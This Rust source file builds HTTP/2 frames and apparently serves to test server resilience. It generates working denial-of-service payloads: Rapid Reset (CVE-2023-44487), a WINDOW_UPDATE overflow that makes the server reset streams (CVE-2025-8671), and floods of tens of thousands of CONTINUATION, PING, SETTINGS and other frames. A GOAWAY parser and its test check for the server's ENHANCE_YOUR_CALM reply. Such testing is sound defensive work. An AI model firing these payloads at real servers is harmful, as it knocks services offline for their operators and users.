//! HTTP/2 by hand: frames, and what attackers make of them.

/// What begins an HTTP/2 connection (RFC 9113 section 3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frame types of RFC 9113 section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// The flags of HEADERS: the request has no body; the block is whole.
const END: u8 = 1;
const WHOLE: u8 = 4;

/// `ENHANCE_YOUR_CALM` (RFC 9113 section 7).
pub const CALM: u32 = 11;

/// A frame (RFC 9113 section 4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// HPACK of `GET http://AUTHORITY/`: three entries of the static table and a literal `:authority` (RFC 7541).
pub fn get_request(authority: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x01, u8::try_from(authority.len()).unwrap_or(u8::MAX)];
    block.extend_from_slice(authority.as_bytes());
    block
}

/// The beginning of a connection, and these frames.
pub fn connection(frames: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[]), frames].concat()
}

/// So many requests, each with what comes behind it.
fn requests(count: u32, authority: &str, behind: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let request = get_request(authority);
    (0..count)
        .map(|n| 2 * n + 1)
        .flat_map(|stream| [frame(HEADERS, END | WHOLE, stream, &request), behind(stream)].concat())
        .collect()
}

/// Requests that are taken back at once (CVE-2023-44487).
pub fn rapid_reset(count: u32, authority: &str) -> Vec<u8> {
    requests(count, authority, |stream| frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()))
}

/// Requests that the server is made to take back: their windows are opened too far, which is a mistake of the stream alone
/// (RFC 9113 section 6.9.1, CVE-2025-8671).
pub fn made_to_reset(count: u32, authority: &str) -> Vec<u8> {
    requests(count, authority, |stream| frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()))
}

/// Frames by the ten thousand that carry nothing, each kind by its name.
pub fn floods(authority: &str) -> Vec<(&'static str, Vec<u8>)> {
    let request = get_request(authority);
    let begun = frame(HEADERS, END, 1, &request);
    // A literal header that is not indexed, in every frame, and an end that never comes.
    let continued = frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y").repeat(20_000);
    let empty = frame(CONTINUATION, 0, 1, b"").repeat(200_000);
    let open = frame(HEADERS, WHOLE, 1, &request);
    vec![
        ("continuations", [&begun[..], &continued].concat()),
        ("empty continuations", [&begun[..], &empty].concat()),
        ("empty data", [open, frame(DATA, 0, 1, b"").repeat(50_000)].concat()),
        ("settings", frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(50_000)),
        ("pings", frame(PING, 0, 0, &[7; 8]).repeat(50_000)),
        ("priorities", frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1]).repeat(50_000)),
        ("window updates", frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(50_000)),
        ("unknown frames", frame(0x77, 0, 0, b"").repeat(50_000)),
    ]
}

/// Looks for a GOAWAY among whole frames; its error code stands behind the last stream's number.
pub fn goaway(mut bytes: &[u8]) -> Option<u32> {
    let mut reason = None;
    while let Some((head, rest)) = bytes.split_at_checked(9) {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let (payload, rest) = rest.split_at_checked(length)?;
        if head[3] == GOAWAY {
            reason = Some(u32::from_be_bytes(payload.get(4..8)?.try_into().ok()?));
        }
        bytes = rest;
    }
    reason
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_last_goaway_counts() {
        let told = |reason: u8| frame(GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, reason]);
        assert_eq!(goaway(&[frame(PING, 0, 0, &[7; 8]), told(0), told(11)].concat()), Some(CALM));
        assert_eq!(goaway(&frame(PING, 0, 0, &[7; 8])), None);
        assert_eq!(goaway(&told(11)[..12]), None);
    }
}
